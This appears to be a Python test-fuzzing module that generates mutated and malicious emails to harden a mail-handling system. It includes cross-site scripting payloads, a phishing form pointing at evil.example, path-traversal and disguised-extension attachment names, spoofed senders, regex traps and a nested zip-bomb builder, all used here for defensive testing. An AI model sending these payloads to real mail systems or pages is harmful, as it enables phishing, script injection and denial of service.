"""Mutations of real mails: how mails break, and how attackers write theirs. The same seed gives the same
mails.
"""

from __future__ import annotations

import base64
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from functools import cache

from tests.mail.corpus import ODD, mail, multipart, part
from tests.mail.real import SHAPES

Luck = random.Random
Mutation = Callable[[bytes, Luck], bytes]

WICKED_HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href='javascript:alert(1)'>x</a><a href=' java\tscript:alert(1)'>y</a>"
    "<a href='JaVaScRiPt&colon;alert(1)'>z</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>y</a>",
    "<form action=https://evil.example><input name=password type=password><button formaction=javascript:x>Go</button>",
    "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/t.gif);position:fixed;inset:0;z-index:9999'>covers all</div>",
    "<img src='https://evil.example/t.gif' srcset='https://evil.example/2.gif 2x' width=1 height=1>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "<video src=https://evil.example/v poster=https://evil.example/p autoplay></video><audio src=x></audio>",
    "<table background=https://evil.example/t.gif><tr><td background=x>a</table>",
    "</div></article></main></body></html><script>alert(1)</script><h1 id=live data-live=*>taken over</h1>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>",
    "<a href=https://ok.example onclick=alert(1) hx-get=/desk hx-trigger=load data-live=*>x</a>",
    "<p hx-on:load='alert(1)' x-data=y v-on:click=z>x</p><details open ontoggle=alert(1)>y</details>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><select><option onclick=x>",
    "<img src='&#106;avascript:alert(1)'><a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>q</a>",
    "<style>*{display:none}</style><p class='toast alarm' id='act-body'>looks like ours</p>",
)  # fmt: skip
NAMES = (
    *("../../../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "/etc/shadow"),
    *("C:\\autoexec.bat", "con", "aux.txt"),
    *("a\u202efdp.exe", "rechnung.pdf\u200b.exe", "\u2066photo\u2069.scr", "x" * 5000 + ".pdf"),
    *("nul\x00.pdf", ".htaccess"),
    *("a/b/c.pdf", "<script>alert(1)</script>.png", "\"; filename=\"evil.html", "line\nbreak.pdf"),
    *("   ", "....", "-rf"),
    *("photo.jpg.html", "page.svg", "ünïcödé 漢字 🙈.pdf", "%2e%2e%2fetc%2fpasswd", "file:///etc/passwd", "~root"),
)  # fmt: skip
DATES = (
    *("Thu, 01 Jan 1970 00:00:00 +0000", "Fri, 31 Dec 2099 23:59:59 +0000", "Mon, 99 Foo 20206 77:88:99 +9999", ""),
    *("0", "-1", "2026-11-02T09:00:00Z", "Mon, 2 Nov 26 9:5 MEZ", "Montag, 2. November 2026", "x" * 5000, "1e400"),
    *("Mon, 2 Nov 2026 08:15:00 +0100 (CET) (nested (comment))", "Sat, 31 Feb 2026 00:00:00 -0000", "\x00\x01"),
)  # fmt: skip
CHARSETS = (
    *("utf-7", "utf-16", "utf-16le", "utf-32", "x-unknown", "klingon", "base64", "zip", "idna"),
    *("punycode", "cp65001"),
    *("unicode_escape", "utf-8-sig", "big5", "euc-jp", "ISO-2022-KR", "hz", "\x00", "utf-8" * 200, "'utf-8", "ansi"),
    *("us-ascii", "iso-8859-8-i", "windows-1251", "mac-roman", "undefined", "rot13", "utf8mb4", "\u00fctf-8"),
)  # fmt: skip
SENDERS = (
    *("", "<>", "nobody", "@", "a@", "@b", "a b@c d", "\"" * 300, "a@b@c", "<a@b.example"),
    *("a@b.example>", ";;;", ",,,"),
    *("a@b.example, c@d.example", "\"Erika\" <a@b.example> <c@d.example>"),
    *("=?utf-8?b?w6Q=?= <\u00e4@\u00fc.example>"),
    *("Erika \u202emoc.live@ <a@b.example>", "\"office@lindenau.example\" <evil@evil.example>", "a@[192.0.2.1]"),
    *("(" * 2000 + "a@b.example" + ")" * 2000, "a@" + "b." * 500 + "example"),
    *("x" * 400 + "@example.org", "a\x00@b.example"),
)  # fmt: skip
IDS = (
    *("", "<>", "<<a@b>>", "a@b", "<a b@c>", "<a@b", "<" + "x" * 5000 + "@y>", "<same@for.all>", "<same@for.all>"),
    *("<a@b> <c@d>", "<\x00@x>", "<=?utf-8?q?x?=@y>"),
    *("<notice-00000000-0000-0000-0000-000000000000@elsewhere.example>"),
    *("<journey-48279163@elsewhere.example>", "<[x@y]>", "<ü@ü.example>"),
)  # fmt: skip


def _head_and_body(raw: bytes) -> tuple[bytes, bytes, bytes]:
    for end in (b"\r\n\r\n", b"\n\n"):
        head, match, body = raw.partition(end)
        if match:
            return head, end[: len(end) // 2], body
    return raw, b"\n", b""


def _with(raw: bytes, name: str, value: str | bytes, *, twice: bool = False) -> bytes:
    """Replace the field by this value; with `twice`, add it above the others."""
    head, end, body = _head_and_body(raw)
    line = value if isinstance(value, bytes) else value.encode("utf-8", "surrogateescape")
    if not twice:
        head = re.sub(rb"(?im)^%s:.*(?:\r?\n[ \t].*)*\r?\n?" % re.escape(name.encode()), b"", head)
    return name.encode() + b": " + line + end + head.rstrip(b"\r\n") + end + end + body


def _choice(name: str, values: tuple[str, ...]) -> Mutation:
    def mutate(raw: bytes, luck: Luck) -> bytes:
        return _with(raw, name, luck.choice(values))

    return mutate


def _truncated(raw: bytes, luck: Luck) -> bytes:
    return raw[: luck.randrange(1, len(raw))]


def _bytes_flipped(raw: bytes, luck: Luck) -> bytes:
    content = bytearray(raw)
    for _ in range(luck.randint(1, 40)):
        content[luck.randrange(len(content))] = luck.randrange(256)
    return bytes(content)


def _nul_bytes(raw: bytes, luck: Luck) -> bytes:
    content = bytearray(raw)
    for _ in range(luck.randint(1, 30)):
        content.insert(luck.randrange(len(content)), 0)
    return bytes(content)


def _lines_shuffled(raw: bytes, luck: Luck) -> bytes:
    lines = raw.split(b"\n")
    start = luck.randrange(len(lines))
    some = lines[start : start + 12]
    luck.shuffle(some)
    return b"\n".join([*lines[:start], *some, *lines[start + 12 :]])


def _a_piece_again(raw: bytes, luck: Luck) -> bytes:
    start = luck.randrange(len(raw))
    piece = raw[start : start + luck.randint(1, 800)]
    return raw[:start] + piece * luck.randint(2, 30) + raw[start:]


def _boundary_never_closed(raw: bytes, luck: Luck) -> bytes:
    return re.sub(rb"(?m)^(--[^\r\n]{2,70})--[ \t]*\r?$", rb"", raw) + b"%d" % luck.randrange(9)


def _boundary_of_another(raw: bytes, luck: Luck) -> bytes:
    return re.sub(rb'boundary="?[^"\r\n;]+"?', b'boundary="b%d"' % luck.randrange(99), raw, count=1)


def _wrong_encoding(raw: bytes, luck: Luck) -> bytes:
    kind = luck.choice(
        ["base64", "quoted-printable", "x-uuencode", "binary", "8bit", "morse", "", "base64, 8bit"]
    )
    if b"ontent-ransfer-ncoding" in raw or luck.random() < 0.5:
        return re.sub(
            rb"(?i)content-transfer-encoding:[^\r\n]*", b"Content-Transfer-Encoding: " + kind.encode(), raw
        )
    return _with(raw, "Content-Transfer-Encoding", kind)


def _bad_base64(raw: bytes, luck: Luck) -> bytes:
    rubbish = "".join(luck.choices("ABCDabcd0189+/=-_ \n!ü", k=luck.randint(3, 4000)))
    return (
        _with(
            _with(raw, "Content-Type", "text/html; charset=utf-8"), "Content-Transfer-Encoding", "base64"
        ).split(b"\n\n", 1)[0]
        + b"\n\n"
        + rubbish.encode()
    )


def _wrong_charset(raw: bytes, luck: Luck) -> bytes:
    label = luck.choice(CHARSETS).encode("utf-8", "replace")
    changed, times = re.subn(rb'(?i)charset\s*=\s*"?[^";\r\n]*"?', lambda _: b'charset="' + label + b'"', raw)
    return changed if times else _with(raw, "Content-Type", b'text/plain; charset="' + label + b'"')


def _huge_field(raw: bytes, luck: Luck) -> bytes:
    name = luck.choice(["Subject", "References", "To", "X-Long", "Content-Type", "Received", "From"])
    return _with(
        raw, name, luck.choice(["x", "<a@b> ", "a@b.example, ", "=?utf-8?q?=C3=BC?= ", "\n "]) * 20_000
    )


def _thousands_of_fields(raw: bytes, luck: Luck) -> bytes:
    name = luck.choice(["X-Field", "Received", "DKIM-Signature", "Subject", "To"])
    return b"".join(b"%s: %d\n" % (name.encode(), n) for n in range(luck.randint(1000, 5000))) + raw


def _no_head(raw: bytes, luck: Luck) -> bytes:
    return luck.choice([b"", b"\n", b"\r\n\r\n", b"\n\n\n"]) + _head_and_body(raw)[2]


def _fields_that_are_none(raw: bytes, luck: Luck) -> bytes:
    odd = [
        b": no name",
        b"No colon here",
        b"\xff\xfe: x",
        b" continued from nothing",
        b"A B: c",
        b"\tx",
        b"=" * 300,
    ]
    return b"\n".join(luck.sample(odd, 4)) + b"\n" + raw


def _line_ends(raw: bytes, luck: Luck) -> bytes:
    ends = [b"\r", b"\n", b"\r\n", b"\n\r", b"\r\r\n", b"\x0b", b"\x85"]
    return b"".join(line + luck.choice(ends) for line in raw.splitlines())


def _two_senders(raw: bytes, luck: Luck) -> bytes:
    return _with(raw, "From", f"other{luck.randrange(99)}@evil.example", twice=True)


def _sender_with_a_thousand(raw: bytes, luck: Luck) -> bytes:
    return _with(raw, "From", ", ".join(f"a{n}@b{luck.randrange(9)}.example" for n in range(1000)))


def _two_ids(raw: bytes, luck: Luck) -> bytes:
    return _with(raw, "Message-ID", luck.choice(IDS), twice=True)


def _loop(raw: bytes, luck: Luck) -> bytes:
    marks = {
        "Auto-Submitted": luck.choice(
            ["auto-replied", "auto-generated", "auto-notified", "AUTO-REPLIED (x)", "yes"]
        ),
        "X-Loop": "office@lindenau.example",
        "Precedence": luck.choice(["bulk", "junk", "auto_reply", "list"]),
        "X-Auto-Response-Suppress": "All",
        "Return-Path": "<>",
        "Delivered-To": "office@lindenau.example",
    }
    for name in luck.sample(sorted(marks), luck.randint(1, 5)):
        raw = _with(raw, name, marks[name])
    return raw


def _our_own_come_back(raw: bytes, luck: Luck) -> bytes:
    raw = _with(raw, "From", "Lindenau Elektro <office@lindenau.example>")
    return _with(
        raw, "Message-ID", f"<notice-{luck.getrandbits(32):08x}-1111-4222-8333-444455556666@lindenau.example>"
    )


def _reads_backwards(raw: bytes, luck: Luck) -> bytes:
    signs = "\u202e\u202d\u2066\u2067\u2068\u200f\u061c\u200b\ufeff\u00ad\U000e0001"
    subject = "".join(luck.choice(["gpj.exe ", *signs]) for _ in range(30))
    return _with(_with(raw, "Subject", subject), "From", f'"{subject}" <a{luck.randrange(99)}@b.example>')


def _wicked_name(raw: bytes, luck: Luck) -> bytes:
    name = luck.choice(NAMES)
    content = base64.b64encode(luck.randbytes(40)).decode()
    how = luck.choice(["plain", "2231", "encoded", "in type"])
    quoted = name.replace('"', "'").replace("\n", "\\n").replace("\x00", "%00")
    match how:
        case "2231":
            value = "attachment; filename*=utf-8''" + "".join(f"%{b:02X}" for b in name.encode())
            fields = {"Content_Disposition": value}
        case "encoded":
            value = f"=?utf-8?b?{base64.b64encode(name.encode()).decode()}?="
            fields = {"Content_Disposition": f'attachment; filename="{value}"'}
        case "in type":
            fields = {}
        case _:
            fields = {"Content_Disposition": f'attachment; filename="{quoted}"'}
    kind = f'application/octet-stream; name="{quoted}"' if how == "in type" else "application/pdf"
    whole = part(content.encode(), kind, Content_Transfer_Encoding="base64", **fields)
    return multipart(part(b"See the file\n"), whole, Message_ID=f"<name-{luck.getrandbits(40)}@b.example>")


@cache
def _bomb(depth: int) -> bytes:
    """Build a zip that unpacks to gigabytes: zeros in a zip in a zip."""
    content = bytes(8_000_000)
    for _ in range(depth):
        whole = io.BytesIO()
        with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as box:
            for n in range(8):
                box.writestr(f"{n}.bin", content)
        content = whole.getvalue()
    return content


def _zip_bomb(raw: bytes, luck: Luck) -> bytes:
    whole = base64.encodebytes(_bomb(luck.randint(1, 2)))
    named = luck.choice(["invoice.zip", "a.docx", "b.xlsx", "c.gz"])
    attachment = part(whole, "application/zip", Content_Transfer_Encoding="base64",
               Content_Disposition=f'attachment; filename="{named}"')  # fmt: skip
    return multipart(part(b"Open it\n"), attachment, Message_ID=f"<zip-{luck.getrandbits(40)}@b.example>")


def _ten_thousand_parts(raw: bytes, luck: Luck) -> bytes:
    empty_part = luck.choice(
        [b"\n\nx", b"Content-Type: image/gif\n\nx", b"Content-Type: text/html\n\n<b>x", b""]
    )
    return multipart(*[empty_part] * 10_000, Message_ID=f"<parts-{luck.getrandbits(40)}@b.example>")


def _nested(raw: bytes, luck: Luck) -> bytes:
    kind = luck.choice(["multipart/mixed", "multipart/alternative", "message/rfc822", "multipart/digest"])
    deep = luck.randint(60, 400)
    if kind == "message/rfc822":
        return b"Content-Type: message/rfc822\n\n" * deep + raw
    inner = b"".join(
        b"Content-Type: %s; boundary=b%d\n\n--b%d\n" % (kind.encode(), n, n) for n in range(deep)
    )
    return _with(inner + b"\n" + raw, "Message-ID", f"<nest-{luck.getrandbits(40)}@b.example>")


def _wicked_html(raw: bytes, luck: Luck) -> bytes:
    words = "".join(luck.sample(WICKED_HTML, luck.randint(1, 6)))
    if luck.random() < 0.4:
        words = (
            luck.choice(["<div>", "<table><td>", "<b", "<!--", "</p>", "<a href='", '<p title="', "<ul>"]) * 5
            + words
        )
    if luck.random() < 0.2:
        words = words.replace("<", "\x00<", 3)
    return mail(
        words.encode("utf-8", "surrogateescape"),
        Content_Type=luck.choice(
            ["text/html", "text/html; charset=utf-7", "TEXT/HTML; charset=utf-8", "text/html;x=y"]
        ),
        Message_ID=f"<html-{luck.getrandbits(40)}@b.example>",
    )


def _deep_html(raw: bytes, luck: Luck) -> bytes:
    tag = luck.choice(["div", "b", "blockquote", "table><tr><td", "ul><li", "svg", "a href=x", "font"])
    words = f"<{tag}>".encode() * luck.randint(300, 8000)
    return mail(
        words + b"deep<script>x</script>",
        Content_Type="text/html",
        Message_ID=f"<deep-{luck.getrandbits(40)}@x>",
    )


def _regex_traps(raw: bytes, luck: Luck) -> bytes:
    words = luck.choice(
        ["> " * 30_000, "On " * 20_000, "-" * 60_000, "Von: \n" * 9000, " \t" * 40_000, "1234-" * 12_000]
    )
    return mail(
        words.encode(), Message_ID=f"<trap-{luck.getrandbits(40)}@x>", Subject="Re: " * luck.randint(1, 3000)
    )


def _random_bytes(raw: bytes, luck: Luck) -> bytes:
    return luck.randbytes(luck.randint(1, 20_000))


def _false_report(raw: bytes, luck: Luck) -> bytes:
    """Add a lying bounce: about a notice that does not exist, with contradictory statuses."""
    report = b"".join(
        b"Final-Recipient: rfc822; a%d@b.example\nAction: %s\nStatus: %s\n\n"
        % (
            n,
            luck.choice([b"failed", b"delayed", b"", b"exploded"]),
            luck.choice([b"5.1.1", b"4.4.1", b"9.9.9", b""]),
        )
        for n in range(luck.randint(0, 400))
    )
    return multipart(
        part(b"It failed.\n"), part(b"\n" + report, "message/delivery-status"), part(raw, "message/rfc822"),
        From=luck.choice(["MAILER-DAEMON@evil.example", "<>", "a@b.example"]),
        Content_Type='multipart/report; report-type=delivery-status; boundary="XX"',
        Message_ID=f"<report-{luck.getrandbits(40)}@b.example>",
    )  # fmt: skip


def _encoded_words(raw: bytes, luck: Luck) -> bytes:
    words = [
        "=?utf-8?b?" + "A" * luck.randint(1, 5) + "?=",
        "=?utf-8?q?=ZZ=?=",
        "=??b??=",
        "=?utf-16?b?//8=?=",
        "=?x?q?=00?=",
    ]
    return _with(raw, "Subject", " ".join(luck.choices(words, k=luck.randint(1, 400))))


MUTATIONS: dict[str, tuple[Mutation, int]] = {
    "cut off": (_truncated, 60),
    "bytes flipped": (_bytes_flipped, 80),
    "nul bytes": (_nul_bytes, 40),
    "lines shuffled": (_lines_shuffled, 50),
    "a piece again and again": (_a_piece_again, 30),
    "boundary never closed": (_boundary_never_closed, 30),
    "boundary of another": (_boundary_of_another, 25),
    "wrong transfer encoding": (_wrong_encoding, 50),
    "bad base64": (_bad_base64, 25),
    "wrong charset": (_wrong_charset, 60),
    "huge field": (_huge_field, 20),
    "thousands of fields": (_thousands_of_fields, 8),
    "no head": (_no_head, 15),
    "fields that are none": (_fields_that_are_none, 25),
    "line ends mixed": (_line_ends, 30),
    "odd sender": (_choice("From", SENDERS), 45),
    "odd recipient": (_choice("To", SENDERS), 20),
    "odd reply address": (_choice("Reply-To", SENDERS), 20),
    "two senders": (_two_senders, 15),
    "a thousand senders": (_sender_with_a_thousand, 6),
    "odd id": (_choice("Message-ID", IDS), 45),
    "two ids": (_two_ids, 20),
    "odd references": (_choice("References", IDS), 15),
    "odd date": (_choice("Date", DATES), 40),
    "loop": (_loop, 45),
    "our own come back": (_our_own_come_back, 25),
    "reads backwards": (_reads_backwards, 20),
    "encoded words": (_encoded_words, 15),
    "wicked file name": (_wicked_name, 60),
    "zip bomb": (_zip_bomb, 6),
    "ten thousand parts": (_ten_thousand_parts, 3),
    "nested": (_nested, 12),
    "wicked html": (_wicked_html, 90),
    "deep html": (_deep_html, 12),
    "traps for patterns": (_regex_traps, 12),
    "false report": (_false_report, 25),
    "random bytes": (_random_bytes, 15),
}


def corpus(seed: int, *, times: int = 1) -> Iterator[tuple[str, bytes]]:
    """Yield real mails, odd ones, and each of their mutations (`times` its number), each with a name."""
    yield from ((f"real: {name}", raw) for name, raw in SHAPES.items())
    yield from ((f"odd: {name}", raw) for name, raw in ODD.items())
    bases = sorted(SHAPES)
    for kind, (mutate, count) in MUTATIONS.items():
        luck = random.Random(f"{seed} {kind}")
        for n in range(count * times):
            base = bases[n % len(bases)] if n < len(bases) else luck.choice(bases)
            yield f"{kind} {n}: {base}", mutate(SHAPES[base], luck)
